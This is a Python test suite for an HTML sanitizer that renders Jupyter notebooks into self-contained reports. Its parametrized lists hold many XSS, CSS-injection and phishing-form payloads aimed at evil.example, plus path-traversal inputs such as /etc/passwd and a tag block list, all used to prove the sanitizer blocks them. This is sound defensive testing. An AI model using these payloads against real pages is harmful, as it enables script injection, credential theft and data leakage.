"""A report is one page that needs no network, and nothing that a notebook carries can reach out of it or pose as it."""

import base64
import io
import re
from html.parser import HTMLParser

import nbformat
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from galley.notebooks.clean import Cleaner
from galley.notebooks.render import render
from galley.stage import MIME_TYPE

pytestmark = pytest.mark.filterwarnings("ignore:Your element with mimetype")
RAN = {"papermill": {"status": "completed", "duration": 0.5}}


def page(*cells, **record):
    node = nbformat.v4.new_notebook(cells=list(cells))
    node.metadata.galley = {"end": {"state": "completed", "message": ""}, "record_sha256": "0" * 64, **record}
    return render(node, "dag · stage")


def shows(**data):
    """A cell with one output of these MIME types, a slash written as two underscores."""
    data = {name.replace("__", "/"): value for name, value in data.items()}
    return nbformat.v4.new_code_cell("x", outputs=[nbformat.v4.new_output("display_data", data=data)], metadata=RAN)


class Page(HTMLParser):
    """What a browser would act on: tags, attributes, and text by element."""

    def __init__(self, html):
        super().__init__()
        self.tags, self.attributes, self.ids = [], [], []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attributes += [(tag, name, value or "") for name, value in attrs]
        self.ids += [value for name, value in attrs if name == "id"]


FORBIDDEN_TAGS = {
    "script",
    "iframe",
    "frame",
    "object",
    "embed",
    "form",
    "input",
    "button",
    "base",
    "link",
    "svg",
    "audio",
}
FORBIDDEN_TAGS |= {
    "video",
    "source",
    "template",
    "math",
    "foreignobject",
    "animate",
    "set",
    "use",
    "noscript",
    "textarea",
}


def assert_harmless(html):
    seen = Page(html)
    assert FORBIDDEN_TAGS & set(seen.tags) == set()
    assert seen.tags.count("meta") == 5
    assert seen.tags.count("style") == seen.tags.count("body") == seen.tags.count("html") == 1
    for tag, name, value in seen.attributes:
        assert not name.startswith("on"), (tag, name)
        assert name not in ("srcset", "srcdoc", "action", "formaction", "background", "poster", "ping")
        if name in ("src", "href"):
            assert not re.match(r"\s*(javascript|vbscript|data:text|data:image/svg.*script)", value, re.IGNORECASE)
        if name == "src":
            assert value.startswith("data:image/"), value
        if name == "style" and tag != "html":
            assert not re.search(r"position|url\(|expression|margin|transform|z-index|inset", value, re.IGNORECASE)


HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='https://evil.example/pixel.png'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img srcset='https://evil.example/a.png 2x'>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' jav&#x09;ascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:x'>x</a>",
    "<a href=x ping='https://evil.example'>x</a>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href='https://evil.example/'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<form action='https://evil.example'><input name=password><button>Log in</button></form>",
    "<iframe src='https://evil.example'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='https://evil.example'></object><embed src='https://evil.example'>",
    "<svg><script>alert(1)</script></svg>",
    "<svg onload=alert(1)><use href='https://evil.example#x'/></svg>",
    "<svg><foreignObject><body onload=alert(1)></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<style>.banner { display: none } @import 'https://evil.example/x.css';</style>",
    "<div style='position:fixed;inset:0;background:url(https://evil.example)'>completed</div>",
    "<div style='margin-top:-9999px;transform:translate(0,-500px);z-index:9'>x</div>",
    "<style>#x { position: fixed; inset: 0; background: url(https://evil.example) }</style><div id=x>completed</div>",
    "<style>p { background: u\\72l(https://evil.example); color: expression(alert(1)) }</style><p>x</p>",
    "<style></style><img src=x onerror=alert(1)></style><p style='background:URL(//evil.example)'>x</p>",
    "<style><!--</style><script>alert(1)</script>--></style><div style='background:image-set(\"//evil.example\")'>",
    "<!--><script>alert(1)</script>-->",
    "</main></body></html><script>alert(1)</script>",
    "</section></div></main><h1>dag</h1>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video src=https://evil.example autoplay></video><audio src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template>",
    "<x onclick=alert(1) contenteditable>x</x>",
    "<title></title><textarea></textarea><xmp><script>alert(1)</script></xmp>",
]


@pytest.mark.parametrize("html", HOSTILE)
def test_html_that_means_harm_does_none_wherever_it_comes_from(html):
    cell = nbformat.v4.new_markdown_cell(f"# {html}\n\n{html}\n\n## two\n\n[x]({html})")
    error = nbformat.v4.new_output("error", ename=html, evalue=html, traceback=[html, f"\x1b[31m{html}\x1b[0m"])
    stream = nbformat.v4.new_output("stream", text=html)
    assert_harmless(
        page(
            cell,
            shows(text__html=html),
            shows(text__markdown=html),
            shows(text__latex=html),
            shows(text__plain=html),
            shows(application__javascript=html),
            shows(**{"application__x-" + html: html}),
            shows(image__png=html),
            nbformat.v4.new_code_cell(html, outputs=[error, stream], metadata=RAN),
            nbformat.v4.new_raw_cell(html),
            end={"state": "failed", "message": html, "cell": 1},
            parameters={html: html},
            conclusion={html: {"deep": html}},
            run={"dag_id": html},
        )
    )


@given(st.text() | st.lists(st.sampled_from([*HOSTILE, "<", ">", "'", '"', "&", "\0", "\n"]), max_size=4).map("".join))
@settings(max_examples=60, deadline=None)
def test_no_html_gets_through_whatever_it_is_made_of(html):
    assert_harmless(page(shows(text__html=html), nbformat.v4.new_markdown_cell(html)))


def test_svg_is_shown_as_a_picture_in_which_no_script_runs():
    html = page(shows(**{"image__svg+xml": "<svg><script>alert(1)</script></svg>"}))
    assert_harmless(html)
    assert 'src="data:image/svg+xml;base64,' in html


def test_an_output_that_works_by_script_alone_is_a_note():
    assert "needs JavaScript" in Cleaner().clean("<script>draw()</script>")
    assert "needs JavaScript" in page(shows(text__html="<script>draw()</script>"))


def test_an_output_that_has_a_text_for_its_script_is_that_text():
    html = page(shows(text__html="<style>a{}</style><script>draw()</script>", text__plain="Pipeline(steps=[])"))
    assert "Pipeline(steps=[])" in html
    assert "needs JavaScript" not in html


def test_an_output_cannot_pose_as_the_banner_or_as_a_cell():
    fake = "<header class='banner completed' id='cell-1'><p class='state'>completed</p></header><h2 id='cell-1'>x</h2>"
    html = page(shows(text__html=fake), end={"state": "failed", "message": "", "cell": 0})
    assert html.count('id="cell-1"') == 1
    shown = html[html.index('<div class="html">') :]
    assert "banner" not in shown
    assert 'class="state"' not in shown


LEADS_NOWHERE = [
    "../../api/v2/dags", "/galley/reports", "//evil.example", "\\\\evil.example", "?dag=x", "x.html", "", "https:x",
    "https:///api/v2/dags", "https:/\t/evil.example", "ftp://evil.example", "file:///etc/passwd", "data:text/html,x",
]  # fmt: skip


@pytest.mark.parametrize("address", LEADS_NOWHERE)
def test_a_link_that_names_no_site_leads_nowhere(address):
    html = f'<a href="{address}" target="_top">all is well</a>'
    seen = Page(page(shows(text__html=html), nbformat.v4.new_markdown_cell(f"{html} [x]({address})")))
    assert [value for tag, name, value in seen.attributes if tag == "a" and name in ("href", "target")] == []


def test_a_link_to_a_site_opens_a_window_that_learns_nothing_of_this_one():
    html = page(shows(text__html='<a title="x" href=" HTTPS://example.org/a">a</a>'))
    (attributes,) = [tag for tag in re.findall(r"<a ([^>]*)>", html) if "example.org" in tag]
    assert 'href="HTTPS://example.org/a"' in attributes
    assert 'target="_blank"' in attributes
    assert 'rel="noopener noreferrer"' in attributes


def test_a_link_within_the_page_stays_in_it():
    html = page(nbformat.v4.new_markdown_cell("[below](#below)\n\n# below"))
    assert '<a href="#below" rel="noopener noreferrer">' in html


@pytest.mark.parametrize("title", ["<a onclick=x y=", "<a href='https://example.org' onclick='x", "' onclick='x"])
def test_a_link_cannot_be_worded_so_that_its_title_becomes_more_than_that(title):
    seen = Page(Cleaner().clean(f'<a title="{title}" href="https://example.org">a</a>'))
    assert {name for _, name, _ in seen.attributes} <= {"title", "href", "target", "rel"}


def test_all_that_a_notebook_wrote_stands_below_a_line_that_says_so_and_each_output_in_a_border():
    html = page(nbformat.v4.new_markdown_cell("# a"), shows(text__html="<b>x</b>"), conclusion={"said": "a\n\nb"})
    own, cells = html.index('<p class="origin">'), html.index('<section class="cell')
    assert html.index("</header>") < own < cells
    bordered = re.search(r"^([^{}]*)\{[^}]*border: 1px solid var\(--edge\)", html, re.MULTILINE)[1]
    assert {".output", ".facts .markdown"} <= {part.strip() for part in bordered.split(",")}


def test_tables_keep_what_makes_them_readable():
    table = "<table border='1' class='dataframe'><thead><tr style='text-align: right;'><th>a</th></tr></thead></table>"
    html = page(shows(text__html=table))
    assert 'class="dataframe"' in html
    assert "text-align" in html


def test_a_table_of_pandas_is_not_matched_with_the_sheet_that_it_brings_which_the_page_has_itself():
    frame = pd.DataFrame([[1, 2]], columns=pd.MultiIndex.from_product([["x"], ["a", "b"]]))
    html = page(shows(text__html=frame._repr_html_()))
    shown = html[html.index('<div class="html">') :]
    assert shown.count("<style") == shown.count("style=") == 0
    assert ".dataframe thead tr:not(:last-of-type) th { text-align: left; }" in html


def test_code_in_markdown_keeps_its_colours():
    assert 'class="highlight' in page(nbformat.v4.new_markdown_cell("```python\nx = 1\n```"))


def test_a_cell_in_another_language_has_the_colours_of_that():
    assert '<span class="nb">echo</span>' in page(nbformat.v4.new_code_cell("%%bash\necho $HOME"))
    assert "magics" not in page(nbformat.v4.new_code_cell("x = 1"))


def test_what_the_schema_of_notebooks_refuses_is_shown_all_the_same():
    node = nbformat.v4.new_notebook(cells=[shows(text__plain="all is well")])
    node.cells[0].execution_count = "first"
    assert "all is well" in render(node, "")


def test_the_page_loads_nothing_and_says_so_to_the_browser():
    html = page(shows(text__html="<b>x</b>"))
    assert "default-src 'none'" in html
    assert "script-src 'none'" in html
    assert not re.search(r"""(src|href)=["']?(https?:)?//""", html)
    assert "@import" not in html
    assert not re.search(r"url\((?!['\"]?data:)", html)


@pytest.mark.parametrize("state", ["completed", "failed", "timed out", "killed", "interrupted", "refused", "running"])
def test_the_banner_says_how_it_ended(state):
    html = page(end={"state": state, "message": "because <of> it"})
    assert f'<p class="state">{state}</p>' in html
    assert "because &lt;of&gt; it" in html
    assert html.index('class="state"') < html.index("</header>")


def test_a_failed_cell_is_linked_unfolded_and_its_traceback_is_readable():
    traceback = ["\x1b[31mZeroDivisionError\x1b[39m  Traceback", "\x1b[32m----> 1\x1b[39m 1 / 0 <b>"]
    error = nbformat.v4.new_output("error", ename="ZeroDivisionError", evalue="division by zero", traceback=traceback)
    failed = nbformat.v4.new_code_cell("1 / 0", outputs=[error], metadata={"papermill": {"status": "failed"}})
    html = page(nbformat.v4.new_code_cell("x", metadata=RAN), failed, end={"state": "failed", "message": "", "cell": 1})
    assert '<a href="#cell-2">' in html
    assert '<section class="cell code failed" id="cell-2">' in html
    assert html.count('<details class="input" open>') == 1
    assert "\x1b" not in html
    assert "1 / 0 &lt;b&gt;" in html


def test_an_error_without_a_traceback_shows_its_name():
    error = nbformat.v4.new_output("error", ename="SystemExit", evalue="3", traceback=[])
    assert "SystemExit: 3" in page(nbformat.v4.new_code_cell("x", outputs=[error], metadata=RAN))


def test_headings_are_listed_and_lead_to_their_cells():
    source = "# One `two` *three*\n\n```\n# no heading\n```\n\n### Größe & 日本"
    html = page(nbformat.v4.new_markdown_cell(source), nbformat.v4.new_markdown_cell("## Four"))
    contents = html[html.index("<nav") : html.index("</nav>")]
    assert re.findall(r'<li class="level-(\d)"><a href="#(cell-\d)">(.*?)</a>', contents) == [
        ("1", "cell-1", "One two three"),
        ("3", "cell-1", "Größe &amp; 日本"),
        ("2", "cell-2", "Four"),
    ]


def test_every_link_inside_the_page_has_a_target():
    cells = [nbformat.v4.new_markdown_cell(f"# Heading {n}") for n in range(3)]
    seen = Page(page(*cells, shows(text__plain="x"), end={"state": "failed", "message": "", "cell": 3}))
    inside = {value[1:] for _, name, value in seen.attributes if name == "href" and value.startswith("#")}
    assert inside
    assert inside <= set(seen.ids)


def test_what_was_found_stands_above_the_cells_and_what_was_asked_and_used_below_and_folded():
    fact = {"path": "data/raw/x.csv", "sha256": "ab" * 32, "bytes": 1234}
    html = page(
        nbformat.v4.new_code_cell("x", metadata=RAN),
        parameters={"rows": 7},
        conclusion={"auc": 0.75},
        inputs=[fact],
        outputs=[],
        source={"path": "notebooks/x.ipynb", "git_commit": "c0ffee", "git_clean": True},
        kernel={"name": "data", "python": "3.11.7"},
        run={"dag_id": "train", "try_number": 2},
        seconds=1.5,
    )
    above, below = html.split('<section class="cell')
    assert '<details class="facts" open><summary>Conclusion</summary>' in above
    assert "0.75" in above
    assert re.findall(r'<details class="facts"(.*?)><summary>(.*?)<', below) == [
        ("", "Parameters"), ("", "Files"), ("", "Provenance"),
    ]  # fmt: skip
    for text in ("rows", "read data/raw/x.csv", "1,234 bytes", "c0ffee", "3.11.7", "train", "1.5"):
        assert text in below
    assert f'sha256 <abbr title="{"ab" * 32}">{"ab" * 6}</abbr>' in below


def test_words_of_several_lines_stand_above_the_cells_the_summary_first_and_the_numbers_below():
    said = {"auc": 0.75, "all_checks": "| check |\n|---|\n| rows |", "summary": "**Approve**\n\nIt is better."}
    above, below = page(nbformat.v4.new_code_cell("x", metadata=RAN), conclusion=said).split('<section class="cell')
    assert re.findall(r'<section class="facts"><h2>(.*?)</h2>', above) == ["Summary", "All checks"]
    assert "0.75" not in above
    assert '<details class="facts"><summary>Conclusion</summary>' in below
    assert "0.75" in below


def test_markdown_that_was_concluded_too_is_shown_once():
    summary = "**Approve**\n\nIt is better."
    html = page(shows(text__markdown=summary), shows(text__markdown="*other*"), conclusion={"summary": summary})
    assert html.count("It is better.") == 1
    assert "<em>other</em>" in html


def test_a_conclusion_is_readable_whatever_it_is_made_of():
    html = page(conclusion={"checks": {"rows": True, "auc": {"new": 0.7, "old": 0.6}}, "worse": [], "days": ["a", "b"]})
    for text in ("rows: True\nauc: new: 0.7, old: 0.6", "<td>none</td>", "<td>a, b</td>"):
        assert text in html


def test_a_conclusion_of_several_lines_is_shown_as_the_markdown_that_it_is():
    html = page(conclusion={"summary": "**Approve**\n\n| a | b |\n|---|---|\n| 1 | <script>alert(1)</script> |\n"})
    assert "<strong>Approve</strong>" in html
    assert "<th>a</th>" in html
    assert "| a |" not in html
    assert "<script" not in html


def states(kind, text):
    """An output that a stage states."""
    return nbformat.v4.new_output("display_data", data={MIME_TYPE: {"kind": kind}, "text/plain": text})


def test_statements_that_follow_each_other_are_one_list_and_others_stay_where_they_are():
    other = nbformat.v4.new_output("stream", text="three rows")
    cell = nbformat.v4.new_code_cell(
        "x", outputs=[states("input", "read a"), states("input", "read b"), other, states("output", "wrote c")]
    )
    html = page(cell)
    assert "<summary><span>read a and 1 more</span></summary><pre>read a\nread b</pre>" in html
    assert html.index("read b") < html.index("three rows") < html.index("wrote c")


def test_what_was_concluded_is_shown_once():
    cell = nbformat.v4.new_code_cell("x", outputs=[states("conclusion", "auc = 0.75")])
    html = page(cell, conclusion={"auc": 0.75})
    assert "auc = 0.75" not in html
    assert '<th scope="row">auc</th><td>0.75</td>' in html


def test_the_libraries_of_the_environment_are_listed():
    html = page(environment={"python": "3.11.7", "libraries": {"pandas": "3.1.1"}})
    assert '<th scope="row">pandas</th><td>3.1.1</td>' in html


def test_an_attachment_of_markdown_is_shown():
    cell = nbformat.v4.new_markdown_cell("![x](attachment:x.png)", attachments={"x.png": {"image/png": "aGk="}})
    assert 'src="data:image/png;base64,aGk="' in page(cell)


def test_a_page_of_six_plots_stays_below_a_megabyte():
    figures = [shows(**{"image__svg+xml": plot(number)}) for number in range(6)]
    assert len(page(*figures).encode()) < 1_000_000


def plot(seed):
    """A plot as stages make them: two curves, a histogram, a legend."""
    import matplotlib as mpl
    import numpy as np
    from matplotlib.figure import Figure

    random = np.random.default_rng(seed)
    with mpl.rc_context({"svg.fonttype": "path"}):
        figure = Figure(figsize=(7, 4))
        left, right = figure.subplots(1, 2)
        left.plot(np.cumsum(random.normal(size=400)), label="one")
        left.plot(np.cumsum(random.normal(size=400)), label="other")
        left.legend()
        right.hist(random.normal(size=1000), bins=40)
        right.set_title(f"Größe {seed}")
        stream = io.StringIO()
        figure.savefig(stream, format="svg")
    return stream.getvalue()


def test_an_unknown_record_is_still_a_page():
    assert "unknown" in render(nbformat.v4.new_notebook(), "x")


def test_a_diff_in_markdown_is_coloured_and_can_be_folded():
    text = "<details><summary>01_prepare</summary>\n\n```diff\n-old\n+<b>new</b>\n```\n\n</details>"
    html = page(shows(text__markdown=text))
    assert "<details><summary>01_prepare</summary>" in html
    assert '<span class="gd">-old</span>' in html
    assert '<span class="gi">+&lt;b&gt;new&lt;/b&gt;</span>' in html


# What a page takes in, and what it says of the rest

STYLED = """<style type="text/css">
@import 'https://evil.example/x.css';
#T_1 th { background: red; position: fixed }
#T_1_row0_col0, #T_1_row1_col0 { background-color: #fff7fb; color: #000000; }
#T_1_row1_col0 { color: red; background: url(https://evil.example/x); }
#T_1 tr:hover { color: blue }
#T_1_row0_col1 { width: 10em; background: linear-gradient(90deg, #d65f5f 50%, transparent 50%) }
.banner, body, header { color: white } ~ p { color: white }
</style>
<table id="T_1"><tr><th>a</th></tr><tr><td id="T_1_row0_col0" style="color: green">1</td><td id="T_1_row0_col1">2</td>
</tr><tr><td id="T_1_row1_col0">3</td></tr></table>"""


def test_a_styled_table_keeps_its_styles_at_its_own_cells_and_loses_what_is_not_safe():
    html = page(shows(text__html=STYLED))
    assert_harmless(html)
    shown = html[html.index('<div class="html">') :]
    assert re.findall(r'<t[hd] style="(.*?)"', shown) == [
        "background:red",
        "background-color:#fff7fb;color:green",
        "width:10em;background:linear-gradient(90deg, #d65f5f 50%, transparent 50%)",
        "background-color:#fff7fb;color:red",
    ]
    assert 'style="' not in html[: html.index('<div class="html">')]


def test_a_large_styled_table_takes_a_while_and_not_for_ever():
    cells = [f"#T_1_row{n} {{ color: #{n:06x} }}" for n in range(3000)]
    rows = [f"<tr><td id='T_1_row{n}'>{n}</td></tr>" for n in range(3000)]
    wide = [f"#T_1 td:nth-child({n}) {{ color: red }}" for n in range(2, 3000)]
    html = page(shows(text__html=f"<style>{''.join(cells + wide)}</style><table id='T_1'>{''.join(rows)}</table>"))
    assert 'style="color:#000bb7">2999<' in html


@pytest.mark.parametrize("plain", ["", "<IPython.core.display.HTML object>"])
def test_html_with_a_script_loses_the_script_and_not_its_table(plain):
    html = page(shows(text__html="<table><tr><td>0.71</td></tr></table><script>draw()</script>", text__plain=plain))
    assert_harmless(html)
    assert "<td>0.71</td>" in html
    assert '<p class="note">Left out here: a script.</p>' in html


def test_an_output_that_is_its_text_says_that_a_script_was_left_out():
    assert "Left out here: a script" in page(shows(text__html="<script>draw()</script>", text__plain="Pipeline()"))


@pytest.mark.parametrize(
    ("html", "said"),
    [
        ("<iframe src='https://example.org'></iframe>", "an embedded page"),
        ("<video src='x.mp4'></video>", "a video"),
        ("<audio controls></audio>", "a sound recording"),
        ("<img src='https://example.org/x.png'>", "the picture https://example.org/x.png"),
        ("<img src='no<b>where.png'>", "the picture no&lt;b&gt;where.png"),
    ],
)
def test_what_is_not_shown_is_said(html, said):
    assert f"Left out here: {said}." in page(shows(text__html=html))


def test_what_is_shown_whole_says_nothing():
    assert "Left out" not in page(shows(text__html=STYLED), nbformat.v4.new_markdown_cell("- [ ] `<script>`\n\n$x$"))


def test_a_list_of_tasks_shows_which_are_done():
    html = page(nbformat.v4.new_markdown_cell("- [x] rows\n- [ ] columns"))
    assert re.findall(r"(☑|☐)\s*(\w+)", html) == [("☑", "rows"), ("☐", "columns")]


PNG = bytes.fromhex("89504e470d0a1a0a") + b"a picture"
IN_PAGE = base64.b64encode(PNG).decode()


@pytest.fixture
def beside(tmp_path):
    """The folder of a notebook, with pictures in it and next to it."""
    folder = tmp_path / "notebooks"
    (folder / "my pictures").mkdir(parents=True)
    for path in (folder / "pic.png", folder / "my pictures/p.png", tmp_path / "outside.png"):
        path.write_bytes(PNG)
    (folder / "secret.png").write_text("root:x:0:0")
    (folder / "secret.txt").write_bytes(PNG)
    (folder / "link.png").symlink_to(tmp_path / "outside.png")
    (folder / "drawn.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>")
    return folder


def page_in(folder, *cells):
    return render(nbformat.v4.new_notebook(cells=list(cells)), "dag · stage", folder)


@pytest.mark.parametrize("source", ["![x](pic.png)", "<img src='./pic.png?v=2'>", "![x](my%20pictures/p.png)"])
def test_a_picture_beside_the_notebook_is_part_of_the_page(beside, source):
    html = page_in(beside, nbformat.v4.new_markdown_cell(source))
    assert f'src="data:image/png;base64,{IN_PAGE}"' in html
    assert "Left out" not in html


def test_a_picture_in_an_output_is_part_of_the_page_and_a_drawing_runs_nothing(beside):
    html = page_in(beside, shows(text__html="<img src='pic.png'><img src='drawn.svg'>"))
    assert IN_PAGE in html
    assert 'src="data:image/svg+xml;base64,' in html
    assert "<script" not in html


@pytest.mark.parametrize(
    "source",
    ["../outside.png", "link.png", "secret.png", "secret.txt", "/etc/passwd", "nowhere.png", "file:pic.png", "%00.png"],
)
def test_what_is_no_picture_below_the_notebooks_folder_stays_out_and_is_named(beside, source):
    html = page_in(beside, nbformat.v4.new_markdown_cell(f"<img src='{source}'>"))
    assert 'src="data:' not in html
    assert "file:" in source or f"Left out here: the picture {source}" in html


def test_pictures_of_any_number_and_size_leave_a_page_that_opens(beside):
    (beside / "large.png").write_bytes(PNG + bytes(6_000_000))
    (beside / "half.png").write_bytes(PNG + bytes(4_000_000))
    html = page_in(beside, nbformat.v4.new_markdown_cell("![x](large.png)\n" + "![x](half.png)\n" * 10))
    assert "the picture large.png, the picture half.png" in html
    assert len(html) < 30_000_000


def test_a_progress_bar_is_its_last_state():
    pieces = [f"\r{n}/300" for n in range(301)]
    outputs = [nbformat.v4.new_output("stream", name="stderr", text=piece) for piece in pieces]
    html = page(nbformat.v4.new_code_cell("x", outputs=outputs, metadata=RAN))
    assert '<pre class="stderr">300/300</pre>' in html
    assert "299/300" not in html
    assert "\r" not in html
